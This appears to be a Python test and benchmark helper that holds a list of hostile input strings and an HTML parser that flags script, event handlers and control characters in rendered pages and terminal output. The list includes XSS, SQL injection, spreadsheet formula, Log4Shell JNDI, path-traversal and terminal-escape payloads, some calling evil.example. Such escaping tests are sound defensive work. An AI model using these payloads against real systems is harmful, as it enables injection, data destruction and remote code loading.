"""Texts that act where they are not escaped, and what finds one that does; tests and a benchmark share them."""

from __future__ import annotations

import json
import random
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from typing import Any

HOSTILE = (
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(2)>",
    "'-alert(3)-'",
    "</title></style></textarea><svg onload=alert(4)>",
    "<a href=\"javascript:alert(5)\">x</a>",
    "javascript:alert(6)",
    "<iframe srcdoc='<script>alert(7)</script>'></iframe>",
    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(8)'>",
    "<style>*{background:url(//evil.example/?)}</style>",
    "<!--", "-->", "<![CDATA[", "&lt;script&gt;alert(9)&lt;/script&gt;", "&#60;script&#62;",
    "'; drop table serving.list_versions; --", "\" or \"\"=\"", "1); select pg_sleep(10); --", "$$;--", "%s%(x)s", "{schema}",
    "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://evil.example\")",
    "\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\", "\x9b2J", "\x08\x08\x08",
    "[red]markup[/]", "[/]", "[link=file:///etc/passwd]x[/link]", ":warning:", "[bold", "\\[red]",
    "first\r\nSet-Cookie: x=1", "first\nHANDPICK: forged line", "first\rsecond", "a\u2028b\u2029c", "a\x85b", "a\x0bb\x0cc",
    "nul\x00byte", "\u202egnp.exe", "\u2066x\u2069", "zero\u200bwidth", "\ufeffbom", "\ud800", "x\udfffy", "\U000e0041tag",
    "{{ 7*7 }}", "{% raw %}", "${7*7}", "#{7*7}", "${jndi:ldap://evil.example/a}", "%n%n%n", "$\\frac{1}{2", "$x$", "\\", "\\\\x41",
    "../../etc/passwd", "..\\..\\x", "/etc/passwd", "a/../b", "CON", "x" * 10_000, "<" * 500, "a:" * 2_000 + "//@", "", " ", "null", "NaN", "-Infinity",
    "1e999", "9" * 400, "0x1p3", "é", "e\u0301" * 50, "𝕏" * 20, "👩‍👩‍👧", "ﷺ" * 10,
)  # fmt: skip
"""Markup, script addresses, SQL, spreadsheet formulas, terminal sequences, forged log lines, invisible and
reordering marks, lone surrogates, templates, paths, and very long texts."""

_PAGE_TAGS = """html head meta title style body h1 h2 h3 p a table tr td th b br i code ul ol li dl dt dd span div nav
header main section details summary figure figcaption caption img select textarea hr time
form label input datalist option button svg g text tspan line circle polyline polygon lt"""
ALLOWED_TAGS = frozenset(_PAGE_TAGS.split())
"""Tags of our pages and plots."""
_CONTROLS = re.compile(
    "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b\u200e\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


class _ActiveContent(HTMLParser):
    """Collects what may act on a page: foreign tags, event handlers, addresses with script."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in ALLOWED_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            address = re.sub(r"[\s\x00-\x20]", "", value or "").lower()
            if name.startswith("on") or (
                name in ("href", "src", "action", "xlink:href", "formaction")
                and re.match(r"(javascript|data|vbscript):", address)
            ):
                self.found.append(f"{tag} {name}={value!r}")
            if tag == "meta" and name == "http-equiv" and value != "Content-Security-Policy":
                self.found.append(f"meta {value!r}")


def find_active_content(html: str) -> list[str]:
    """What could act in a page of ours, and raw control characters in it; empty for a harmless page."""
    parser = _ActiveContent()
    parser.feed(html)
    parser.close()
    return parser.found + [repr(found) for found in _CONTROLS.findall(html)]


def find_terminal_controls(output: str, colours: bool = False) -> list[str]:
    """Control characters in what a command printed; with `colours`, our own colour sequences are allowed."""
    text = re.sub(r"\x1b\[[0-9;]*m", "", output) if colours else output
    return [repr(found) for found in _CONTROLS.findall(text)]


def draw_hostile(number: int, seed: int = 7) -> str:
    """Hostile text number n: those of the list first, then mixtures of them."""
    if number < len(HOSTILE):
        return HOSTILE[number]
    rng = random.Random(f"{seed}/{number}")
    parts = rng.choices([each for each in HOSTILE if len(each) < 200], k=rng.randint(2, 4))
    return "".join(parts) if rng.random() < 0.5 else f"{number} ".join(parts)


def to_json_line(row: dict[str, Any]) -> bytes:
    """A row as a line of JSON in ASCII, which can hold lone surrogates and NUL."""
    return json.dumps(row, ensure_ascii=True).encode() + b"\n"


def each_column(row: dict[str, Any], count: int, key: str, start: int = 0) -> Iterator[dict[str, Any]]:
    """Rows like one, each with a hostile text in another column; the key stays unique."""
    columns = list(row)
    for number in range(count):
        column = columns[number % len(columns)]
        text = draw_hostile(start + number // len(columns))
        yield {**row, key: f"{row[key]}-{number}", column: text}
